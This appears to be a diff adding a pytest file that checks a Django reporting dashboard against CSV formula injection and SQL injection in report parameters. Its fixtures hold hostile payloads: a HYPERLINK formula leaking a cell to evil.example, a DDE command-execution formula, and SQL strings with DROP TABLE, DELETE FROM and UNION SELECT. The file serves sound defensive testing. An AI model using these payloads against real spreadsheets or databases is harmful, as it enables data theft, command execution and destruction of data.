@@ -1,0 +1,132 @@
+"""Report data is hostile too: formulas in exported cells and SQL in report parameters."""
+
+import csv
+import io
+from io import StringIO
+
+import pytest
+import sqlglot
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+from django.urls import reverse
+
+from dashboard.engines import engine_run
+from dashboard.engines.athena import athena_literal
+from dashboard.reports import REPORTS
+from dashboard.selectors import FORMULA_START, PLAIN_NUMBER
+from pipeline_admin.runtime import runtime_drain
+
+FORMULAS = {
+    "F-1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "F-2": "+SUM(1;2)",
+    "F-3": "-2+3+cmd|' /C calc'!A0",
+    "F-4": "@SUM(A1:A9)",
+    "F-5": "\t=1+1",  # the Lambda strips the tab; the formula behind it is what the export must catch
+    "F-6": "Acme Ltd",
+}
+
+
+def _orders_csv() -> bytes:
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerow(["OrderID", "Customer", "Amount", "Status", "OrderDate"])
+    for i, (order_id, customer) in enumerate(FORMULAS.items(), start=1):
+        writer.writerow([order_id, customer, f"{i * 10}.00", "confirmed", f"2025-05-0{i}"])
+    return out.getvalue().encode()
+
+
+@pytest.fixture
+def hostile_data(client, twin, uploader, analyst):
+    """Formula-like customer names uploaded by an Uploader, processed by the Lambda and crawled."""
+    client.force_login(uploader)
+    upload = SimpleUploadedFile("formulas.csv", _orders_csv())
+    response = client.post(reverse("pipeline_admin:upload"), {"files": [upload], "as_of": "2025-06-01"})
+    assert response.status_code == 302
+    runtime_drain()
+    call_command("crawl", "--wait", stdout=StringIO())
+    client.force_login(analyst)
+    return client
+
+
+def _computed(client, url: str, params: dict, capture) -> dict:
+    with capture(execute=True):
+        client.get(url, params)
+    return client.get(url, params).json()
+
+
+@pytest.mark.parametrize("slug", ["sales-by-customer", "top-orders"])
+def test_a_csv_export_neutralises_formulas_that_came_in_with_uploaded_data(
+    slug, hostile_data, django_capture_on_commit_callbacks
+):
+    client, params = hostile_data, {"limit": "20"}
+    body = _computed(client, reverse("report_api", args=[slug]), params, django_capture_on_commit_callbacks)
+    customers = {row[body["columns"].index("customer")] for row in body["rows"]}
+    assert customers == {v.strip() for v in FORMULAS.values()}  # the stored data holds the formulas as sent
+
+    response = client.get(reverse("dashboard:export", args=[slug]), params)
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    exported = list(csv.reader(io.StringIO(response.content.decode())))
+    column = exported[0].index("customer")
+    assert {row[column] for row in exported[1:]} == {
+        "'" + v.strip() if v.strip().startswith(FORMULA_START) else v for v in FORMULAS.values()
+    }
+    for row in exported:  # nothing in the file starts a formula, except plain numbers like -12.50
+        for cell in row:
+            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), cell
+
+
+INJECTIONS = {
+    "customer": "x' OR '1'='1",
+    "start_date": "2025-01-01'; DROP TABLE orders; --",
+    "end_date": "today' OR 1=1 --",
+    "statuses": "confirmed') OR ('1'='1",
+    "limit": "10; DELETE FROM orders",
+    "month": "2025-05' UNION SELECT * FROM orders --",
+}
+
+
+@pytest.mark.parametrize("param", sorted(INJECTIONS))
+def test_report_parameters_carrying_sql_are_refused_by_validation(param, client, twin, analyst):
+    client.force_login(analyst)
+    slug = "top-orders"  # it takes every kind of parameter: dates, statuses, text, month, limit
+    for url in (reverse("report_api", args=[slug]), reverse("dashboard:export", args=[slug])):
+        response = client.get(url, {param: INJECTIONS[param]})
+        assert response.status_code == 400, (url, param)
+    response = client.get(reverse("dashboard:card", args=[slug]), {param: INJECTIONS[param]})
+    assert response.status_code == 400
+
+
+def _run(slug: str, **overrides) -> dict:
+    """The engine path with bound parameters, as a worker runs it, but skipping validation."""
+    report = REPORTS[slug]
+    values = report.clean_params({}) | overrides
+    result = engine_run(report.sql(), report.bind(values))
+    return [dict(zip(result.columns, row)) for row in result.rows]
+
+
+def test_sql_in_a_parameter_that_got_past_validation_is_only_ever_a_value(hostile_data):
+    before = _run("kpis")
+    assert before[0]["orders"] == len(FORMULAS)
+    for hostile in ("x' OR '1'='1", "x'; DROP VIEW orders; --", "Acme Ltd' --"):
+        assert _run("kpis", customer=hostile)[0]["orders"] == 0, hostile
+    assert _run("sales-by-customer", customer="' OR customer <> '") == []
+    assert _run("kpis", statuses="confirmed') OR ('1'='1")[0]["orders"] == 0
+    assert _run("kpis", customer="Acme Ltd")[0]["orders"] == 1  # the same path does filter on a real value
+    assert _run("kpis") == before  # the table is still there, with the same rows
+
+
+def test_athena_receives_a_parameter_carrying_sql_as_one_string_literal():
+    """Athena substitutes execution parameters into the statement: the literal must hold the whole value."""
+    report = REPORTS["kpis"]
+    for hostile in ("x' OR '1'='1", "x\\' OR 1=1 --", "x'); DROP TABLE orders; --", "'''"):
+        values = report.clean_params({}) | {"customer": hostile}
+        parts, literals = report.sql().split("?"), [athena_literal(p) for p in report.bind(values)]
+        assert len(parts) == len(literals) + 1
+        text = parts[0] + "".join(literal + part for literal, part in zip(literals, parts[1:]))
+        statement = sqlglot.parse_one(text, read="athena")
+        customer_values = {
+            eq.expression.this
+            for eq in statement.find_all(sqlglot.exp.EQ)
+            if isinstance(eq.this, sqlglot.exp.Column) and eq.this.name == "customer"
+        }
+        assert customer_values == {hostile}, hostile
